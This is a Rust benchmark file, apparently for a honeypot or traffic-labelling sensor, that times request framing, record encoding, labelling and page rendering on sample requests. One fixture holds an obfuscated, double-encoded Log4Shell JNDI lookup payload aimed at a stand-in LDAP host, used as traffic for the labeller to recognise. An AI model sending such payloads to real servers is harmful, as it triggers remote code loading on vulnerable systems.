//! How many instructions the parts of the work take. The figures are the same on every machine with
//! the same compiler.

// The macros make modules without documentation.
#![allow(missing_docs)]

use std::hint::black_box;
use std::sync::Arc;

use forever200_head::Framing;
use forever200_identify::{Label, Labeller};
use forever200_ring::{Ended, Record, SLOTS, Snapshot, Via};
use forever200_viewer::page::filter::FilterQuery;
use forever200_viewer::page::pages::Pages;
use forever200_viewer::reader::Describer;
use forever200_viewer::reader::Entry;
use forever200_viewer::reader::View;
use forever200_viewer::reader::locations::Locations;
use forever200_viewer::reader::privacy::Privacy;
use gungraun::{library_benchmark, library_benchmark_group, main};

/// The request that comes most often.
fn scanner() -> Vec<u8> {
    b"GET / HTTP/1.1\r\nHost: 203.0.113.80\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n"
        .to_vec()
}

/// A Log4Shell lookup, in the target encoded twice, and in a header.
fn log4shell() -> Vec<u8> {
    b"GET /?x=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D HTTP/1.1\r\nHost: x\r\n\
      User-Agent: ${${lower:j}ndi:ldap://203.0.113.9/a}\r\n\r\n"
        .to_vec()
}

/// A request of about the greatest length that is kept.
fn long_form() -> Vec<u8> {
    let mut request = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 65000\r\n\r\n".to_vec();
    request.resize(request.len() + 65_000, b'a');
    request
}

/// Random bytes, which are no known protocol.
fn noise() -> Vec<u8> {
    let next = |state: &u32| Some(state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223));
    std::iter::successors(Some(200), next)
        .take(4096)
        .map(|state| (state >> 24) as u8)
        .collect()
}

fn record(seq: u64, raw: Vec<u8>) -> Record {
    Record {
        seq,
        timestamp: jiff::Timestamp::from_second(1_800_000_000 + seq as i64).expect("within range"),
        src_ip: [203, 0, 113, seq as u8].into(),
        src_port: 40_000,
        dest_ip: [192, 0, 2, 80].into(),
        dest_port: 80,
        via: Via::ProxyV2,
        bytes: raw.len() as u64,
        extra: 0,
        truncated: false,
        ended: Ended::Complete,
        continues: None,
        tls: None,
        sensor: None,
        responder: "0123abcd".into(),
        raw: raw.into(),
    }
}

#[library_benchmark]
#[bench::scanner(scanner())]
#[bench::long_form(long_form())]
#[bench::noise(noise())]
fn framing(request: Vec<u8>) -> bool {
    let mut framing = Framing::default();
    framing.feed(black_box(&request), 0);
    framing.is_whole()
}

#[library_benchmark]
#[bench::scanner(record(7, scanner()))]
#[bench::long_form(record(7, long_form()))]
fn encode(record: Record) -> Vec<u8> {
    black_box(record).encode()
}

#[library_benchmark]
#[bench::scanner(record(7, scanner()).encode())]
#[bench::long_form(record(7, long_form()).encode())]
fn decode(value: Vec<u8>) -> Option<Record> {
    Record::decode(black_box(value)).ok()
}

/// Returns a labeller that has already described this request, because expressions are compiled
/// when they are first needed.
fn warm(request: Vec<u8>) -> (Labeller, Vec<u8>) {
    let labeller = Labeller::built_in();
    drop(labeller.describe(&request, None));
    (labeller, request)
}

#[library_benchmark]
#[bench::scanner(warm(scanner()))]
#[bench::log4shell(warm(log4shell()))]
#[bench::long_form(warm(long_form()))]
#[bench::noise(warm(noise()))]
fn describe((labeller, request): (Labeller, Vec<u8>)) -> (Labeller, Vec<Label>) {
    let labels = labeller.describe(black_box(&request), None).labels;
    (labeller, labels)
}

/// Returns pages that have rendered one view, and a second view with a full ring that they have not
/// rendered.
fn full_ring() -> (Pages, View, View) {
    let describer = Arc::new(Describer {
        labeller: Arc::new(Labeller::built_in()),
        locations: Locations::open("/nonexistent".as_ref()),
        privacy: Privacy::default(),
    });
    let kinds = [scanner(), log4shell(), noise()];
    let view = |version| {
        let raw = |seq: u64| kinds[seq as usize % kinds.len()].clone();
        let entries = (1..=SLOTS)
            .rev()
            .map(|seq| Arc::new(Entry::new(&record(seq, raw(seq)), version, &describer)));
        let mut snapshot = Snapshot::default();
        snapshot.cursor = SLOTS;
        View {
            version,
            snapshot,
            entries: entries.collect(),
            is_all_described: true,
            minute: 30_000_000,
            minutes: [].into(),
            history: None,
            away: None,
        }
    };
    let (first, second) = (view(1), view(2));
    let pages = Pages::new(describer.clone(), true);
    render(&pages, &first);
    (pages, first, second)
}

fn render(pages: &Pages, view: &View) -> usize {
    let query = FilterQuery::default();
    let strip = pages.strip(view, &query).unwrap_or_default();
    let page = pages.home(view, &query, &view.entries, &strip, "192.0.2.80");
    page.map_or(0, |page| page.len())
}

#[library_benchmark]
#[bench::full_ring(full_ring())]
fn home((pages, first, second): (Pages, View, View)) -> (usize, Pages, View, View) {
    (render(&pages, black_box(&second)), pages, first, second)
}

library_benchmark_group!(name = parts; benchmarks = framing, encode, decode, describe, home);

main!(library_benchmark_groups = parts);
